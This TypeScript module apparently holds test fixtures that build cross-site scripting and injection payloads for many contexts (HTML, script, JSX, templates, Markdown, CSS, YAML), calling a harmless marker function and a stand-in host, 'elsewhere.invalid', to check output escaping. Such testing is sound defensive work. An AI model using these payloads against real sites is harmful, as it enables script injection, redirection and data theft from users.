/** A host that does not exist: every request to it has left the site. */
export const elsewhere = "elsewhere.invalid";

/**
 * Returns text that runs `hit` or leaves the page wherever it is interpreted as HTML, a script, a
 * template, JSX, Markdown, CSS or YAML. The field's name is passed as a regular expression, because
 * a string's quotes would be changed in most places.
 */
export function attack(field: string): string {
  const run = `hit(/${field}/)`;
  return [
    `${field}</script><script>${run}</script>`,
    `<img src=x onerror=${run}><svg onload=${run}></svg>`,
    `<iframe srcdoc="&lt;script&gt;top.${run}&lt;/script&gt;"></iframe>`,
    `<meta http-equiv=refresh content="0;url=//${elsewhere}/refresh/${field}">`,
    `<base href="//${elsewhere}/base/${field}/">`,
    `<form action="//${elsewhere}/form/${field}"><button autofocus>Send</button></form>`,
    `<link rel=stylesheet href="//${elsewhere}/style/${field}">`,
    `'"></title></textarea></style>--><script>${run}</script><!--`,
    `" onfocus=${run} autofocus="' onmouseover=${run} x='`,
    `{${run}} \${${run}} <%= ${run} %> {{${run}}} \`\${${run}}\``,
    `[link](javascript:${run}) <javascript:${run}> ![image](//${elsewhere}/image/${field})`,
    `\\u003c/script>\\";${run}//';${run}//\u2028${run}//]]>`,
  ].join(" ");
}

/** Returns an attack for names that become file names, whose length is limited. */
export function shortAttack(field: string): string {
  const run = `hit(/${field}/)`;
  return `${field}</script><script>${run}</script>'"><img src=x onerror=${run}>{${run}}`;
}

/** Returns an attack of several lines for texts that may have them: front matter, imports, code. */
export function longAttack(field: string): string {
  const run = `hit(/${field}/)`;
  return [
    attack(field),
    "---",
    `title: "${field}"`,
    "---",
    `import hit from "//${elsewhere}/import/${field}";`,
    `export const x = ${run};`,
    "",
    `<script>${run}</script>`,
    "",
    `{${run}}`,
    "",
    `[reference]: javascript:${run}`,
    `[reference] [data](data:text/html,<script>${run}</script>)`,
    "```js",
    attack(field),
    "```",
    `| ${attack(field).replaceAll("|", "")} |`,
    "| --- |",
  ].join("\n");
}

/** URLs that run `hit` when followed or loaded. */
export const scriptUrl = (field: string) => `javascript:hit(/${field}/)`;
export const dataUrl = (field: string) =>
  `data:text/html,<script>top.hit(/${field}/)</script>`;
